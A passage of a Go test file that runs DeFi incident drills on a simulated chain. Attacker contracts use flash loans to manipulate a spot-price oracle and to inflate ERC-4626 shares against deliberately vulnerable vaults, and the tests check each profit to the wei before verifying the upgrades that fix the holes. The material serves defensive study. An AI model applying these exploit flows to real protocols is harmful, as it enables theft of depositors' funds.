package contracts

import (
	"math/big"
	"slices"
	"testing"

	"github.com/ethereum/go-ethereum"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"warroom/chain"
)

var (
	// flashETH is FlashLender.ETH, the placeholder token address for ETH.
	flashETH = common.HexToAddress("0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE")
	wad      = big.NewInt(1e18)
)

// milliEther returns n/1000 ether in wei.
func milliEther(n int64) *big.Int {
	return new(big.Int).Mul(big.NewInt(n), big.NewInt(1e15))
}

// amountOut is SpotPool.getAmountOut (Uniswap v2's formula, 0.3% fee).
func amountOut(in, reserveIn, reserveOut *big.Int) *big.Int {
	withFee := new(big.Int).Mul(in, big.NewInt(997))
	num := new(big.Int).Mul(withFee, reserveOut)
	den := new(big.Int).Add(new(big.Int).Mul(reserveIn, big.NewInt(1000)), withFee)
	return num.Div(num, den)
}

// ceilDiv is (a + b - 1) / b.
func ceilDiv(a, b *big.Int) *big.Int {
	n := new(big.Int).Add(a, b)
	n.Sub(n, big.NewInt(1))
	return n.Div(n, b)
}

// deployProxy deploys an implementation and an ERC1967Proxy in front of it,
// initialized with init in the proxy's constructor.
func (c *simChain) deployProxy(name string, from account, bin string, init []byte) (impl, proxy common.Address) {
	c.t.Helper()
	impl = c.deploy(name, from, bin, nil)
	proxy = c.deploy("ERC1967Proxy for "+name, from, ERC1967ProxyMetaData.Bin, NewERC1967Proxy().PackConstructor(impl, init))
	if got := c.storageAddress(proxy, chain.ImplementationSlot); got != impl {
		c.t.Fatalf("ERC-1967 implementation slot of %s holds %s, want %s", name, got, impl)
	}
	return impl, proxy
}

// transfer sends amount wei from one account to addr as a plain transfer.
func (c *simChain) transfer(what string, from account, to common.Address, amount *big.Int) *types.Receipt {
	c.t.Helper()
	inst := bind.NewBoundContract(to, abi.ABI{}, c.client, c.client, c.client)
	tx, err := inst.RawTransact(c.opts(from, amount), nil)
	return c.mustSucceed(what, tx, err)
}

// dryRunRevert eth_calls calldata to `to` from `from` with value, requires
// it to revert and returns the revert reason string.
func (c *simChain) dryRunRevert(what string, from common.Address, to common.Address, value *big.Int, calldata []byte) string {
	c.t.Helper()
	_, err := c.client.CallContract(c.t.Context(), ethereum.CallMsg{From: from, To: &to, Value: value, Data: calldata}, nil)
	if err == nil {
		c.t.Fatalf("%s: eth_call succeeded, want a revert", what)
	}
	msg, err := abi.UnpackRevert(revertData(c.t, err))
	if err != nil {
		c.t.Fatalf("%s: revert data is not a reason string: %v", what, err)
	}
	return msg
}

func (c *simChain) blockNumber() uint64 {
	c.t.Helper()
	n, err := c.client.BlockNumber(c.t.Context())
	if err != nil {
		c.t.Fatal(err)
	}
	return n
}

// ---------------------------------------------------------------------------
// Oracle manipulation.

// oracleMarket is the oracle drill's market on a fresh chain: DCOL, a
// 100 ETH / 10,000 DCOL SpotPool, a FlashLender holding 500 ETH.
type oracleMarket struct {
	*simChain
	deployer, guardian, borrower, thief account
	depositors                          []account

	token, pool, lender common.Address
	dcol                *DrillToken
	sp                  *SpotPool
	lv                  *LendingVaultV1 // the same ABI as every LendingVault version
}

var (
	poolETH    = ether(100)
	poolTokens = ether(10_000)
)

func newOracleMarket(t *testing.T) *oracleMarket {
	t.Helper()
	m := &oracleMarket{
		deployer: newAccount(t), guardian: newAccount(t), borrower: newAccount(t), thief: newAccount(t),
		depositors: []account{newAccount(t), newAccount(t)},
		dcol:       NewDrillToken(), sp: NewSpotPool(), lv: NewLendingVaultV1(),
	}
	m.simChain = newSimChain(t, append([]account{m.deployer, m.guardian, m.borrower, m.thief}, m.depositors...)...)

	m.token = m.deploy("DrillToken", m.deployer, DrillTokenMetaData.Bin, m.dcol.PackConstructor(ether(1_000_000)))
	tokenInst := m.dcol.Instance(m.client, m.token)
	if got := call(m.simChain, tokenInst, m.dcol.PackSymbol(), m.dcol.UnpackSymbol); got != "DCOL" {
		t.Fatalf("symbol() = %q, want DCOL", got)
	}
	if got := call(m.simChain, tokenInst, m.dcol.PackBalanceOf(m.deployer.addr), m.dcol.UnpackBalanceOf); got.Cmp(ether(1_000_000)) != 0 {
		t.Fatalf("deployer holds %s DCOL base units, want the whole supply", got)
	}

	m.pool = m.deploy("SpotPool", m.deployer, SpotPoolMetaData.Bin, m.sp.PackConstructor(m.token))
	m.send("approve pool", tokenInst, m.opts(m.deployer, nil), m.dcol.PackApprove(m.pool, poolTokens))
	r := m.send("addLiquidity", m.sp.Instance(m.client, m.pool), m.opts(m.deployer, poolETH), m.sp.PackAddLiquidity(poolTokens))
	var synced bool
	for _, l := range r.Logs {
		if ev, err := m.sp.UnpackSyncEvent(l); err == nil && l.Address == m.pool {
			synced = ev.Reserve0.Cmp(poolTokens) == 0 && ev.Reserve1.Cmp(poolETH) == 0
		}
	}
	if !synced {
		t.Fatal("addLiquidity emitted no Sync(10000e18, 100e18)")
	}
	if got := m.spotPrice(); got.Cmp(big.NewInt(1e16)) != 0 {
		t.Fatalf("spotPrice() = %s, want 1e16 (0.01 ETH per DCOL)", got)
	}

	m.lender = m.deploy("FlashLender", m.deployer, FlashLenderMetaData.Bin, nil)
	m.transfer("fund lender", m.deployer, m.lender, ether(500))
	fl := NewFlashLender()
	flInst := fl.Instance(m.client, m.lender)
	if got := call(m.simChain, flInst, fl.PackMaxFlashLoan(flashETH), fl.UnpackMaxFlashLoan); got.Cmp(ether(500)) != 0 {
		t.Fatalf("maxFlashLoan(ETH) = %s, want 500 ether", got)
	}
	if got := call(m.simChain, flInst, fl.PackMaxFlashLoan(m.token), fl.UnpackMaxFlashLoan); got.Sign() != 0 {
		t.Fatalf("maxFlashLoan(DCOL) = %s, want 0", got)
	}
	if got := call(m.simChain, flInst, fl.PackFlashFee(flashETH, ether(100)), fl.UnpackFlashFee); got.Cmp(milliEther(50)) != 0 {
		t.Fatalf("flashFee(ETH, 100 ether) = %s, want 0.05 ether", got)
	}
	return m
}

func (m *oracleMarket) spotPrice() *big.Int {
	m.t.Helper()
	return call(m.simChain, m.sp.Instance(m.client, m.pool), m.sp.PackSpotPrice(), m.sp.UnpackSpotPrice)
}

// deployLendingVault deploys a lending vault proxy running bin and has the
// depositors put 130 ETH in it.
func (m *oracleMarket) deployLendingVault(name, bin string) (impl, proxy common.Address) {
	m.t.Helper()
	impl, proxy = m.deployProxy(name, m.deployer, bin, m.lv.PackInitialize(m.deployer.addr, m.guardian.addr, m.token, m.pool))
	inst := m.lv.Instance(m.client, proxy)
	m.send("deposit", inst, m.opts(m.depositors[0], ether(65)), m.lv.PackDeposit())
	m.send("deposit", inst, m.opts(m.depositors[1], ether(65)), m.lv.PackDeposit())
	if got := m.balance(proxy); got.Cmp(ether(130)) != 0 {
		m.t.Fatalf("%s holds %s after the deposits, want 130 ether", name, got)
	}
	if got := call(m.simChain, inst, m.lv.PackCollateralToken(), m.lv.UnpackCollateralToken); got != m.token {
		m.t.Fatalf("collateralToken() = %s, want %s", got, m.token)
	}
	if got := call(m.simChain, inst, m.lv.PackPricePool(), m.lv.UnpackPricePool); got != m.pool {
		m.t.Fatalf("pricePool() = %s, want %s", got, m.pool)
	}
	return impl, proxy
}

func (m *oracleMarket) deployOracleAttacker(vault common.Address) (*OracleAttacker, *bind.BoundContract) {
	m.t.Helper()
	a := NewOracleAttacker()
	addr := m.deploy("OracleAttacker", m.thief, OracleAttackerMetaData.Bin, a.PackConstructor(vault, m.pool, m.lender, m.token))
	inst := a.Instance(m.client, addr)
	if got := call(m.simChain, inst, a.PackOwner(), a.UnpackOwner); got != m.thief.addr {
		m.t.Fatalf("OracleAttacker owner = %s, want the thief", got)
	}
	return a, inst
}

var (
	oracleLoan  = ether(100)
	oracleTake  = ether(11)
	oracleStake = ether(3)
)

// oracleAttackWorks runs attack{value: 3 ether}(100 ether, 11 ether) on a
// fresh market's vault and checks every balance to the wei against the
// pool's arithmetic. It returns the attack's receipt.
func (m *oracleMarket) oracleAttackWorks(what string, vault common.Address) *types.Receipt {
	m.t.Helper()
	t := m.t
	a, inst := m.deployOracleAttacker(vault)

	// The attack, worked out in Go from the pool's formula.
	tokensOut := amountOut(oracleLoan, poolETH, poolTokens)
	pumpedTokens := new(big.Int).Sub(poolTokens, tokensOut)
	pumpedETH := new(big.Int).Add(poolETH, oracleLoan)
	pumped := new(big.Int).Div(new(big.Int).Mul(pumpedETH, wad), pumpedTokens)
	value := ceilDiv(new(big.Int).Mul(oracleTake, big.NewInt(10000)), big.NewInt(7500))
	collateral := ceilDiv(new(big.Int).Mul(value, wad), pumped)
	rest := new(big.Int).Sub(tokensOut, collateral)
	ethBack := amountOut(rest, pumpedTokens, pumpedETH)
	loanFee := milliEther(50)
	payout := new(big.Int).Add(oracleStake, oracleTake)
	payout.Add(payout, ethBack).Sub(payout, oracleLoan).Sub(payout, loanFee)

	vaultBefore, thiefBefore, lenderBefore := m.balance(vault), m.balance(m.thief.addr), m.balance(m.lender)
	r := m.send(what, inst, m.opts(m.thief, oracleStake), a.PackAttack(oracleLoan, oracleTake))
	t.Logf("%s: gas used %d", what, r.GasUsed)

	wantBalanceChange(t, what+": vault", vaultBefore, m.balance(vault), new(big.Int).Neg(oracleTake))
	wantBalanceChange(t, what+": lender", lenderBefore, m.balance(m.lender), loanFee)
	thiefGain := new(big.Int).Sub(payout, oracleStake)
	thiefGain.Sub(thiefGain, fee(r))
	wantBalanceChange(t, what+": thief", thiefBefore, m.balance(m.thief.addr), thiefGain)
	if thiefGain.Sign() <= 0 {
		t.Errorf("%s: the thief made %s wei, want a profit", what, thiefGain)
	}
	if got := m.balance(inst.Address()); got.Sign() != 0 {
		t.Errorf("%s: attacker contract kept %s wei", what, got)
	}

	var pumpedEv *OracleAttackerPumped
	var looted *OracleAttackerLooted
	var borrowed, swaps, flash int
	fl := NewFlashLender()
	for _, l := range r.Logs {
		if ev, err := a.UnpackPumpedEvent(l); err == nil && l.Address == inst.Address() {
			pumpedEv = ev
		}
		if ev, err := a.UnpackLootedEvent(l); err == nil && l.Address == inst.Address() {
			looted = ev
		}
		if ev, err := m.lv.UnpackBorrowedEvent(l); err == nil && l.Address == vault {
			borrowed++
			if ev.Account != inst.Address() || ev.Amount.Cmp(oracleTake) != 0 {
				t.Errorf("%s: Borrowed(%s, %s), want (attacker, 11 ether)", what, ev.Account, ev.Amount)
			}
		}
		if _, err := m.sp.UnpackSwapEvent(l); err == nil && l.Address == m.pool {
			swaps++
		}
		if ev, err := fl.UnpackFlashLoanEvent(l); err == nil && l.Address == m.lender {
			flash++
			if ev.Receiver != inst.Address() || ev.Token != flashETH || ev.Amount.Cmp(oracleLoan) != 0 || ev.Fee.Cmp(loanFee) != 0 {
				t.Errorf("%s: FlashLoan%+v, want (attacker, ETH, 100 ether, 0.05 ether)", what, *ev)
			}
		}
	}
	if borrowed != 1 || swaps != 2 || flash != 1 {
		t.Errorf("%s: %d Borrowed, %d Swap, %d FlashLoan events, want 1, 2, 1", what, borrowed, swaps, flash)
	}
	if pumpedEv == nil || pumpedEv.PriceBefore.Cmp(big.NewInt(1e16)) != 0 || pumpedEv.PumpedPrice.Cmp(pumped) != 0 ||
		pumpedEv.Collateral.Cmp(collateral) != 0 || pumpedEv.Borrowed.Cmp(oracleTake) != 0 {
		t.Errorf("%s: Pumped event %+v, want price 1e16 -> %s, collateral %s, borrowed 11 ether", what, pumpedEv, pumped, collateral)
	}
	if looted == nil || looted.Loan.Cmp(oracleLoan) != 0 || looted.Payout.Cmp(payout) != 0 {
		t.Errorf("%s: Looted event %+v, want loan 100 ether, payout %s", what, looted, payout)
	}

	// The vault's books: 11 ETH owed against collateral worth far less.
	vinst := m.lv.Instance(m.client, vault)
	if got := call(m.simChain, vinst, m.lv.PackDebt(inst.Address()), m.lv.UnpackDebt); got.Cmp(oracleTake) != 0 {
		t.Errorf("%s: debt(attacker) = %s, want 11 ether", what, got)
	}
	if got := call(m.simChain, vinst, m.lv.PackCollateral(inst.Address()), m.lv.UnpackCollateral); got.Cmp(collateral) != 0 {
		t.Errorf("%s: collateral(attacker) = %s, want %s", what, got, collateral)
	}
	// The pool ends where the round trip left it: the collateral's tokens
	// are missing from the second swap.
	reserves := call(m.simChain, m.sp.Instance(m.client, m.pool), m.sp.PackGetReserves(), m.sp.UnpackGetReserves)
	wantTokens := new(big.Int).Add(pumpedTokens, rest)
	wantETH := new(big.Int).Sub(pumpedETH, ethBack)
	if reserves.Reserve0.Cmp(wantTokens) != 0 || reserves.Reserve1.Cmp(wantETH) != 0 {
		t.Errorf("%s: reserves (%s, %s), want (%s, %s)", what, reserves.Reserve0, reserves.Reserve1, wantTokens, wantETH)
	}
	if got := m.balance(m.pool); got.Cmp(wantETH) != 0 {
		t.Errorf("%s: pool holds %s wei, want its ETH reserve %s", what, got, wantETH)
	}
	return r
}

// oracleAttackFails runs the same attack and requires it to revert with
// reason, moving nobody's ETH but the thief's gas.
func (m *oracleMarket) oracleAttackFails(what string, vault common.Address, reason string) {
	m.t.Helper()
	a, inst := m.deployOracleAttacker(vault)
	calldata := a.PackAttack(oracleLoan, oracleTake)
	if got := m.dryRunRevert(what, m.thief.addr, inst.Address(), oracleStake, calldata); got != reason {
		m.t.Errorf("%s: reverted with %q, want %q", what, got, reason)
	}
	vaultBefore, thiefBefore, lenderBefore, poolBefore := m.balance(vault), m.balance(m.thief.addr), m.balance(m.lender), m.balance(m.pool)
	r := m.sendReverts(what, inst, m.opts(m.thief, oracleStake), calldata)
	wantBalanceChange(m.t, what+": vault", vaultBefore, m.balance(vault), new(big.Int))
	wantBalanceChange(m.t, what+": lender", lenderBefore, m.balance(m.lender), new(big.Int))
	wantBalanceChange(m.t, what+": pool", poolBefore, m.balance(m.pool), new(big.Int))
	wantBalanceChange(m.t, what+": thief", thiefBefore, m.balance(m.thief.addr), new(big.Int).Neg(fee(r)))
}

// honestBorrow has the borrower put 1,000 DCOL (10 ETH at 0.01 ETH) in the
// vault, borrow 1 ETH, repay it and take the collateral back.
func (m *oracleMarket) honestBorrow(what string, vault common.Address) {
	m.t.Helper()
	t := m.t
	collateral := ether(1000)
	tokenInst := m.dcol.Instance(m.client, m.token)
	vinst := m.lv.Instance(m.client, vault)
	m.send("give DCOL", tokenInst, m.opts(m.deployer, nil), m.dcol.PackTransfer(m.borrower.addr, collateral))
	m.send("approve vault", tokenInst, m.opts(m.borrower, nil), m.dcol.PackApprove(vault, collateral))
	m.send(what+": depositCollateral", vinst, m.opts(m.borrower, nil), m.lv.PackDepositCollateral(collateral))

	if got := call(m.simChain, vinst, m.lv.PackCollateralPrice(), m.lv.UnpackCollateralPrice); got.Cmp(big.NewInt(1e16)) != 0 {
		t.Errorf("%s: collateralPrice() = %s, want 1e16", what, got)
	}
	if got := call(m.simChain, vinst, m.lv.PackMaxBorrow(m.borrower.addr), m.lv.UnpackMaxBorrow); got.Cmp(milliEther(7500)) != 0 {
		t.Errorf("%s: maxBorrow = %s, want 7.5 ether (75%% of 10 ether)", what, got)
	}
	m.sendReverts(what+": borrow above the limit", vinst, m.opts(m.borrower, nil), m.lv.PackBorrow(milliEther(7501)))

	before, vaultBefore := m.balance(m.borrower.addr), m.balance(vault)
	r := m.send(what+": borrow", vinst, m.opts(m.borrower, nil), m.lv.PackBorrow(ether(1)))
	wantBalanceChange(t, what+": borrower", before, m.balance(m.borrower.addr), new(big.Int).Sub(ether(1), fee(r)))
	wantBalanceChange(t, what+": vault", vaultBefore, m.balance(vault), ether(-1))
	if got := call(m.simChain, vinst, m.lv.PackDebt(m.borrower.addr), m.lv.UnpackDebt); got.Cmp(ether(1)) != 0 {
		t.Errorf("%s: debt = %s, want 1 ether", what, got)
	}
	// With 1 ETH owed, at most 866 of the 1,000 DCOL may leave (134 DCOL
	// at 0.01 ETH and 75% cover 1.005 ETH).
	m.sendReverts(what+": withdraw too much collateral", vinst, m.opts(m.borrower, nil), m.lv.PackWithdrawCollateral(ether(900)))
	m.send(what+": repay", vinst, m.opts(m.borrower, ether(1)), m.lv.PackRepay())
	if got := call(m.simChain, vinst, m.lv.PackDebt(m.borrower.addr), m.lv.UnpackDebt); got.Sign() != 0 {
		t.Errorf("%s: debt = %s after repaying, want 0", what, got)
	}
	m.send(what+": withdrawCollateral", vinst, m.opts(m.borrower, nil), m.lv.PackWithdrawCollateral(collateral))
	if got := call(m.simChain, tokenInst, m.dcol.PackBalanceOf(m.borrower.addr), m.dcol.UnpackBalanceOf); got.Cmp(collateral) != 0 {
		t.Errorf("%s: borrower holds %s DCOL after withdrawing, want 1000e18", what, got)
	}
}

func TestOracleManipulationV1(t *testing.T) {
	m := newOracleMarket(t)
	_, vault := m.deployLendingVault("LendingVaultV1", LendingVaultV1MetaData.Bin)
	vinst := m.lv.Instance(m.client, vault)
	if got := call(m.simChain, vinst, m.lv.PackVersion(), m.lv.UnpackVersion); got != "1" {
		t.Fatalf("version() = %q, want 1", got)
	}

	r := m.oracleAttackWorks("attack on LendingVaultV1", vault)

	// Within the attack's block the pool remembered the opening price; in
	// the next block the observed price is the spot price again.
	pinst := m.sp.Instance(m.client, m.pool)
	if got := call(m.simChain, pinst, m.sp.PackLastPrice(), m.sp.UnpackLastPrice); got.Cmp(big.NewInt(1e16)) != 0 {
		t.Errorf("lastPrice() = %s after the attack, want the block's opening 1e16", got)
	}
	if got := call(m.simChain, pinst, m.sp.PackLastBlock(), m.sp.UnpackLastBlock); got.Cmp(r.BlockNumber) != 0 {
		t.Errorf("lastBlock() = %s, want the attack's block %s", got, r.BlockNumber)
	}
	m.backend.Commit()
	if spot, obs := m.spotPrice(), call(m.simChain, pinst, m.sp.PackObservedPrice(), m.sp.UnpackObservedPrice); spot.Cmp(obs) != 0 {
		t.Errorf("observedPrice() = %s in a later block, want spotPrice() %s", obs, spot)
	}

	// The fix: upgrade the same proxy to LendingVaultV2. The attacker's
	// debt survives the upgrade (same layout), and the attack now reverts.
	v2impl := m.deploy("LendingVaultV2", m.deployer, LendingVaultV2MetaData.Bin, nil)
	m.sendReverts("upgrade by thief", vinst, m.opts(m.thief, nil), m.lv.PackUpgradeToAndCall(v2impl, nil))
	m.send("upgradeToAndCall", vinst, m.opts(m.deployer, nil), m.lv.PackUpgradeToAndCall(v2impl, nil))
	if got := call(m.simChain, vinst, m.lv.PackVersion(), m.lv.UnpackVersion); got != "2" {
		t.Fatalf("version() = %q after the upgrade, want 2", got)
	}
	if got := call(m.simChain, vinst, m.lv.PackTotalDeposits(), m.lv.UnpackTotalDeposits); got.Cmp(ether(130)) != 0 {
		t.Errorf("totalDeposits() = %s after the upgrade, want 130 ether", got)
	}
	m.oracleAttackFails("attack on upgraded LendingVaultV2", vault, "borrow above collateral value")

	// Pausing stops the attack too (the first move in an incident).
	m.send("pause", vinst, m.opts(m.guardian, nil), m.lv.PackPause())
	m.sendReverts("borrow while paused", vinst, m.opts(m.borrower, nil), m.lv.PackBorrow(ether(1)))
}

func TestOracleManipulationV2(t *testing.T) {
	m := newOracleMarket(t)
	_, vault := m.deployLendingVault("LendingVaultV2", LendingVaultV2MetaData.Bin)
	m.oracleAttackFails("attack on LendingVaultV2", vault, "borrow above collateral value")
	m.honestBorrow("LendingVaultV2", vault)
}

func TestOracleManipulationBorrowCap(t *testing.T) {
	m := newOracleMarket(t)
	_, vault := m.deployLendingVault("LendingVaultV2BorrowCap", LendingVaultV2BorrowCapMetaData.Bin)
	vinst := m.lv.Instance(m.client, vault)
	if got := call(m.simChain, vinst, m.lv.PackVersion(), m.lv.UnpackVersion); got != "2" {
		t.Fatalf("version() = %q, want 2", got)
	}
	m.oracleAttackWorks("attack on LendingVaultV2BorrowCap", vault)

	// The cap itself works, for what it is worth: a quarter of the vault.
	m.send("give DCOL", m.dcol.Instance(m.client, m.token), m.opts(m.deployer, nil), m.dcol.PackTransfer(m.borrower.addr, ether(10_000)))
	m.send("approve", m.dcol.Instance(m.client, m.token), m.opts(m.borrower, nil), m.dcol.PackApprove(vault, ether(10_000)))
	m.send("depositCollateral", vinst, m.opts(m.borrower, nil), m.lv.PackDepositCollateral(ether(10_000)))
	over := new(big.Int).Add(new(big.Int).Div(m.balance(vault), big.NewInt(4)), big.NewInt(1))
	if got := m.dryRunRevert("borrow over the cap", m.borrower.addr, vault, nil, m.lv.PackBorrow(over)); got != "borrow above the cap" {
		t.Errorf("borrow over the cap reverted with %q", got)
	}
}

func TestOracleHonestBorrowV1(t *testing.T) {
	m := newOracleMarket(t)
	_, vault := m.deployLendingVault("LendingVaultV1", LendingVaultV1MetaData.Bin)
	m.honestBorrow("LendingVaultV1", vault)
}

// ---------------------------------------------------------------------------
// Donation (ERC-4626 inflation).

// donationDrill is the donation drill on a fresh chain: a StrategyShares,
// a FlashLender holding 500 ETH and a ShareVault proxy with 130 ETH of
// deposits.
type donationDrill struct {
	*simChain
	admin, guardian, keeper, thief account
	depositors                     []account

	strategy, lender, vault common.Address
	ss                      *StrategyShares
	sv                      *ShareVaultV1 // the same ABI as every ShareVault version
}

func newDonationDrill(t *testing.T, name, bin string) *donationDrill {
	t.Helper()
	d := &donationDrill{
		admin: newAccount(t), guardian: newAccount(t), keeper: newAccount(t), thief: newAccount(t),
		depositors: []account{newAccount(t), newAccount(t)},
		ss:         NewStrategyShares(), sv: NewShareVaultV1(),
	}
	d.simChain = newSimChain(t, append([]account{d.admin, d.guardian, d.keeper, d.thief}, d.depositors...)...)
	d.strategy = d.deploy("StrategyShares", d.admin, StrategySharesMetaData.Bin, nil)
	d.lender = d.deploy("FlashLender", d.admin, FlashLenderMetaData.Bin, nil)
	d.transfer("fund lender", d.admin, d.lender, ether(500))
	_, d.vault = d.deployProxy(name, d.admin, bin, d.sv.PackInitialize(d.admin.addr, d.guardian.addr, d.strategy))
	inst := d.sv.Instance(d.client, d.vault)
	d.send("deposit", inst, d.opts(d.depositors[0], ether(65)), d.sv.PackDeposit())
	d.send("deposit", inst, d.opts(d.depositors[1], ether(65)), d.sv.PackDeposit())
	if got := d.balance(d.vault); got.Cmp(ether(130)) != 0 {
		t.Fatalf("%s holds %s, want 130 ether", name, got)
	}
	if got := call(d.simChain, inst, d.sv.PackStrategy(), d.sv.UnpackStrategy); got != d.strategy {
		t.Fatalf("strategy() = %s, want %s", got, d.strategy)
	}
	return d
}

// strategyUint and vaultUint read a uint256 view of the strategy or the
// vault, unpacked by the binding's unpack function for that view.
func (d *donationDrill) strategyUint(data []byte, unpack func([]byte) (*big.Int, error)) *big.Int {
	d.t.Helper()
	return call(d.simChain, d.ss.Instance(d.client, d.strategy), data, unpack)
}

func (d *donationDrill) vaultUint(data []byte, unpack func([]byte) (*big.Int, error)) *big.Int {
	d.t.Helper()
	return call(d.simChain, d.sv.Instance(d.client, d.vault), data, unpack)
}

func (d *donationDrill) deployDonationAttacker() (*DonationAttacker, *bind.BoundContract) {
	d.t.Helper()
	a := NewDonationAttacker()
	addr := d.deploy("DonationAttacker", d.thief, DonationAttackerMetaData.Bin, a.PackConstructor(d.vault, d.strategy, d.lender))
	inst := a.Instance(d.client, addr)
	if got := call(d.simChain, inst, a.PackOwner(), a.UnpackOwner); got != d.thief.addr {
		d.t.Fatalf("DonationAttacker owner = %s, want the thief", got)
	}
	return a, inst
}

var (
	donation      = ether(12)
	donationStake = ether(1)
	donationFee   = milliEther(6) // 12 ether * 5 / 10000
)

// donationAttackWorks runs attack{value: 1 ether}(12 ether) and checks
// that the vault lost exactly chunk and everything else to the wei.
func (d *donationDrill) donationAttackWorks(what string, a *DonationAttacker, inst *bind.BoundContract, chunk *big.Int) *types.Receipt {
	d.t.Helper()
	t := d.t
	vaultBefore, thiefBefore, lenderBefore := d.balance(d.vault), d.balance(d.thief.addr), d.balance(d.lender)
	r := d.send(what, inst, d.opts(d.thief, donationStake), a.PackAttack(donation))
	t.Logf("%s: gas used %d", what, r.GasUsed)

	// The one share redeems for the donation, the vault's chunk and the
	// 1 wei it cost.
	redeemed := new(big.Int).Add(donation, chunk)
	redeemed.Add(redeemed, big.NewInt(1))
	payout := new(big.Int).Add(donationStake, chunk) // stake - 1 wei + redeemed - loan - fee
	payout.Sub(payout, donationFee)

	wantBalanceChange(t, what+": vault", vaultBefore, d.balance(d.vault), new(big.Int).Neg(chunk))
	wantBalanceChange(t, what+": lender", lenderBefore, d.balance(d.lender), donationFee)
	thiefGain := new(big.Int).Sub(payout, donationStake)
	thiefGain.Sub(thiefGain, fee(r))
	wantBalanceChange(t, what+": thief", thiefBefore, d.balance(d.thief.addr), thiefGain)
	if thiefGain.Sign() <= 0 {
		t.Errorf("%s: the thief made %s wei, want a profit", what, thiefGain)
	}
	if got := d.balance(d.strategy); got.Sign() != 0 {
		t.Errorf("%s: strategy holds %s wei after the attack, want 0", what, got)
	}
	if got := d.strategyUint(d.ss.PackTotalSupply(), d.ss.UnpackTotalSupply); got.Sign() != 0 {
		t.Errorf("%s: strategy totalSupply = %s after the attack, want 0", what, got)
	}
	if got := d.vaultUint(d.sv.PackStrategyShares(), d.sv.UnpackStrategyShares); got.Sign() != 0 {
		t.Errorf("%s: vault strategyShares = %s, want 0", what, got)
	}
	if got := d.balance(inst.Address()); got.Sign() != 0 {
		t.Errorf("%s: attacker contract kept %s wei", what, got)
	}

	var invested *ShareVaultV1Invested
	var inflated *DonationAttackerInflated
	var looted *DonationAttackerLooted
	var deposits []*StrategySharesDeposit
	var withdraws []*StrategySharesWithdraw
	for _, l := range r.Logs {
		if ev, err := d.sv.UnpackInvestedEvent(l); err == nil && l.Address == d.vault {
			invested = ev
		}
		if ev, err := a.UnpackInflatedEvent(l); err == nil && l.Address == inst.Address() {
			inflated = ev
		}
		if ev, err := a.UnpackLootedEvent(l); err == nil && l.Address == inst.Address() {
			looted = ev
		}
		if ev, err := d.ss.UnpackDepositEvent(l); err == nil && l.Address == d.strategy {
			deposits = append(deposits, ev)
		}
		if ev, err := d.ss.UnpackWithdrawEvent(l); err == nil && l.Address == d.strategy {
			withdraws = append(withdraws, ev)
		}
	}
	if invested == nil || invested.Amount.Cmp(chunk) != 0 || invested.Shares.Sign() != 0 {
		t.Errorf("%s: Invested event %+v, want (%s, 0 shares)", what, invested, chunk)
	}
	if inflated == nil || inflated.Donation.Cmp(donation) != 0 || inflated.VaultShares.Sign() != 0 || inflated.Redeemed.Cmp(redeemed) != 0 {
		t.Errorf("%s: Inflated event %+v, want (12 ether, 0, %s)", what, inflated, redeemed)
	}
	if looted == nil || looted.Loan.Cmp(donation) != 0 || looted.Payout.Cmp(payout) != 0 {
		t.Errorf("%s: Looted event %+v, want (12 ether, %s)", what, looted, payout)
	}
	if len(deposits) != 2 || deposits[0].Owner != inst.Address() || deposits[0].Assets.Int64() != 1 || deposits[0].Shares.Int64() != 1 ||
		deposits[1].Sender != d.vault || deposits[1].Owner != d.vault || deposits[1].Assets.Cmp(chunk) != 0 || deposits[1].Shares.Sign() != 0 {
		t.Errorf("%s: strategy Deposit events %+v, want the attacker's 1 wei for 1 share, then the vault's chunk for 0", what, deposits)
	}
	if len(withdraws) != 1 || withdraws[0].Owner != inst.Address() || withdraws[0].Receiver != inst.Address() ||
		withdraws[0].Assets.Cmp(redeemed) != 0 || withdraws[0].Shares.Int64() != 1 {
		t.Errorf("%s: strategy Withdraw events %+v, want 1 share for %s", what, withdraws, redeemed)
	}
	return r
}

func (d *donationDrill) donationAttackFails(what string, a *DonationAttacker, inst *bind.BoundContract, reason string) {
	d.t.Helper()
	calldata := a.PackAttack(donation)
	if got := d.dryRunRevert(what, d.thief.addr, inst.Address(), donationStake, calldata); got != reason {
		d.t.Errorf("%s: reverted with %q, want %q", what, got, reason)
	}
	vaultBefore, thiefBefore, strategyBefore := d.balance(d.vault), d.balance(d.thief.addr), d.balance(d.strategy)
	r := d.sendReverts(what, inst, d.opts(d.thief, donationStake), calldata)
	wantBalanceChange(d.t, what+": vault", vaultBefore, d.balance(d.vault), new(big.Int))
	wantBalanceChange(d.t, what+": strategy", strategyBefore, d.balance(d.strategy), new(big.Int))
	wantBalanceChange(d.t, what+": thief", thiefBefore, d.balance(d.thief.addr), new(big.Int).Neg(fee(r)))
}

func TestDonationAttackV1(t *testing.T) {
	d := newDonationDrill(t, "ShareVaultV1", ShareVaultV1MetaData.Bin)
	vinst := d.sv.Instance(d.client, d.vault)
	if got := call(d.simChain, vinst, d.sv.PackVersion(), d.sv.UnpackVersion); got != "1" {
		t.Fatalf("version() = %q, want 1", got)
	}
	if got := d.vaultUint(d.sv.PackINVESTCHUNK(), d.sv.UnpackINVESTCHUNK); got.Cmp(ether(11)) != 0 {
		t.Fatalf("INVEST_CHUNK = %s, want 11 ether", got)
	}
	a, inst := d.deployDonationAttacker()

	first := d.donationAttackWorks("first donation attack on ShareVaultV1", a, inst, ether(11))
	second := d.donationAttackWorks("second donation attack on ShareVaultV1", a, inst, ether(11))
	if second.BlockNumber.Cmp(first.BlockNumber) <= 0 {
		t.Errorf("second attack in block %s, first in %s: want a later block", second.BlockNumber, first.BlockNumber)
	}
	if got := d.balance(d.vault); got.Cmp(ether(108)) != 0 {
		t.Errorf("vault holds %s after two attacks, want 108 ether", got)
	}

	// The fix, on the same proxy: the next attack reverts.
	v2impl := d.deploy("ShareVaultV2", d.admin, ShareVaultV2MetaData.Bin, nil)
	d.send("upgradeToAndCall", vinst, d.opts(d.admin, nil), d.sv.PackUpgradeToAndCall(v2impl, nil))
	if got := call(d.simChain, vinst, d.sv.PackVersion(), d.sv.UnpackVersion); got != "2" {
		t.Fatalf("version() = %q after the upgrade, want 2", got)
	}
	if got := call(d.simChain, vinst, d.sv.PackStrategy(), d.sv.UnpackStrategy); got != d.strategy {
